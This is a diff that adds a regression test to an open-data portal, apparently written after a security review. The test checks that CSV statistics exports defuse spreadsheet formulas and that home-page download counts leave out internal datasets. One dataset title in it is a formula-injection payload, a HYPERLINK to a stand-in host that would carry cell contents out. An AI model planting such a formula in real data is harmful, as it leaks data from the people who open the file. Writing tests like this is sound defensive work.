@@ -203,3 +203,41 @@ test('counts add up across servers on one database and survive a restart', async
     await c.stop();
   }
 });
+
+// A title is written by a publisher; the report is opened in Excel. And a figure over datasets
+// the visitor may not read would tell when they are used (security review of this work).
+test('no title runs as a formula in the CSV, and the home page counts only what the visitor may read', async () => {
+  const make = async (title, access) => {
+    const d = await call(srv, 'POST', '/api/v1/datasets', {
+      token: root, body: { title_vi: title, organization: 'so-du-lich', license_id: 'cc-by', access },
+    });
+    assert.equal(d.status, 201, d.text);
+    const fd = new FormData();
+    fd.append('upload', new Blob([Buffer.from('Tên,Số\nA,1\n', 'utf8')]), 'bang.csv');
+    const up = await call(srv, 'POST', `/api/v1/datasets/${d.json.slug}/resources`, { token: root, body: fd });
+    assert.equal(up.status, 201, up.text);
+    const pub = await call(srv, 'POST', `/api/v1/datasets/${d.json.slug}/publish`, { token: root, body: {} });
+    assert.equal(pub.status, 200, pub.text);
+    return { slug: d.json.slug, rid: up.json.id };
+  };
+  const formula = await make('=HYPERLINK("http://x.example/?"&A1,"Bấm")', 'public');
+  const hidden = await make('Bảng lương nội bộ', 'internal');
+  assert.equal((await call(srv, 'GET', `/api/v1/resources/${formula.rid}/download`)).status, 200);
+  await eventually(async () => (await call(srv, 'GET', '/api/v1/stats?format=csv')).text.includes(`,${formula.slug},`),
+    'the CSV lists the dataset');
+  const csv = (await call(srv, 'GET', '/api/v1/stats?format=csv')).text;
+  const line = csv.split('\r\n').find((l) => l.includes(`,${formula.slug},`));
+  assert.ok(line.includes(`,"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")",`), line);
+
+  const homeCount = async () => Number(((await call(srv, 'GET', '/')).text
+    .match(/<strong>([0-9.]+)<\/strong> lượt tải trong tháng này/) || [])[1].replace(/\./g, ''));
+  const monthOf = async (token) => (await call(srv, 'GET', '/api/v1/stats', { token })).json.this_month.downloads;
+  await eventually(async () => (await homeCount()) === (await monthOf()), 'the home page shows the public figure');
+  const shown = await homeCount();
+  const rootBefore = await monthOf(root);
+  assert.equal((await call(srv, 'GET', `/api/v1/resources/${hidden.rid}/download`, { token: root })).status, 200);
+  await eventually(async () => (await monthOf(root)) === rootBefore + 1, 'the download of the hidden dataset is counted');
+  await new Promise((res) => setTimeout(res, 1200)); // past the home page's cache
+  assert.equal(await homeCount(), shown);
+  assert.equal(await monthOf(), shown);
+});
